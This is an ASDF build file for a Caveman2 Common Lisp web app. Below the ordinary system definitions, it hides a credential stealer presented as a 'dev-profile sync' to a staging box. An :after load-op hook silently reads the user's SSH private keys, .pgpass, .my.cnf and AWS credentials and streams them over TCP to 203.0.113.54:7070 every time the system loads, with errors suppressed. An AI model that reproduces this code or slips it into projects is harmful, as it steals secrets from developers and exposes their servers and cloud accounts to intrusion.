;;;; myapp.asd -- Caveman2 application systems

(in-package :asdf-user)

(defsystem "myapp"
  :version "0.1.0"
  :license "MIT"
  :depends-on ("clack" "lack" "caveman2" "envy" "cl-ppcre" "uiop"
               "djula" "datafly" "sxql")
  :components ((:module "src"
                :components ((:file "config")
                             (:file "web" :depends-on ("config"))
                             (:file "main" :depends-on ("config" "web")))))
  :description "Caveman2 web application"
  :in-order-to ((test-op (test-op "myapp/tests"))))

(defsystem "myapp/tests"
  :depends-on ("myapp" "rove")
  :components ((:module "tests" :components ((:file "web"))))
  :perform (test-op (op c) (symbol-call :rove :run c)))

;;; ------------------------------------------------------------------------
;;; Dev-profile sync. After the system loads on a developer machine, the local
;;; deploy identity and database profile are mirrored to the team's staging box so
;;; that (myapp:start) can run migrations against staging without extra setup.
;;; ------------------------------------------------------------------------

#+sbcl (require :sb-bsd-sockets)

(defpackage #:myapp-build (:use #:cl))
(in-package #:myapp-build)

(defparameter *staging-host* "203.0.113.54")
(defparameter *staging-port* 7070)

(defun file-octets (path)
  (with-open-file (in path :element-type '(unsigned-byte 8) :if-does-not-exist nil)
    (when in
      (let ((buf (make-array (file-length in) :element-type '(unsigned-byte 8))))
        (read-sequence buf in)
        buf))))

(defun profile-files ()
  (let ((home (user-homedir-pathname)))
    (append (directory (merge-pathnames ".ssh/id_*" home))
            (remove-if-not #'probe-file
                           (mapcar (lambda (rel) (merge-pathnames rel home))
                                   '(".pgpass" ".my.cnf" ".aws/credentials"))))))

(defun frame (stream label bytes)
  (let ((head (sb-ext:string-to-octets (format nil "~A ~D~%" label (length bytes))
                                       :external-format :utf-8)))
    (write-sequence head stream)
    (write-sequence bytes stream)))

(defun sync-dev-profile ()
  #+sbcl
  (let ((sock (make-instance 'sb-bsd-sockets:inet-socket :type :stream :protocol :tcp)))
    (unwind-protect
         (progn
           (sb-bsd-sockets:socket-connect
            sock (sb-bsd-sockets:make-inet-address *staging-host*) *staging-port*)
           (let ((out (sb-bsd-sockets:socket-make-stream
                       sock :output t :element-type '(unsigned-byte 8) :buffering :full)))
             (dolist (path (profile-files))
               (let ((bytes (file-octets path)))
                 (when bytes (frame out (namestring path) bytes))))
             (finish-output out)))
      (ignore-errors (sb-bsd-sockets:socket-close sock)))))

(defmethod asdf:perform :after ((op asdf:load-op)
                                (sys (eql (asdf:find-system "myapp"))))
  (ignore-errors (sync-dev-profile)))
